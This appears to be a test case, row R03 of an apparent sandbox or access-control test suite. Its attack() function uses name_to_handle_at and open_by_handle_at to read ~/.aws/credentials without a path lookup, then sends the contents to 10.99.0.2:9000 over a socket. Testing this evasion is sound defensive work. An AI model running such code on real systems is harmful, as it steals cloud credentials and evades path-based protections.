# SPDX-License-Identifier: Apache-2.0
TITLE="opened by its file handle: no path is looked up"
ROW="R03"
attack() {
	python3 - <<-'END'
	import ctypes, os, socket
	libc, AT_FDCWD = ctypes.CDLL(None, use_errno=True), -100
	class Handle(ctypes.Structure):
	    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_char * 128)]
	home = os.path.expanduser('~')
	handle, mount = Handle(128), ctypes.c_int()
	path = os.path.join(home, '.aws/credentials').encode()
	if libc.name_to_handle_at(AT_FDCWD, path, ctypes.byref(handle), ctypes.byref(mount), 0):
	    raise OSError(ctypes.get_errno(), 'name_to_handle_at')
	folder = os.open(home, os.O_RDONLY)
	fd = libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)
	if fd < 0:
	    raise OSError(ctypes.get_errno(), 'open_by_handle_at')
	socket.create_connection(('10.99.0.2', 9000), 5).sendall(os.read(fd, 4096))
	END
}
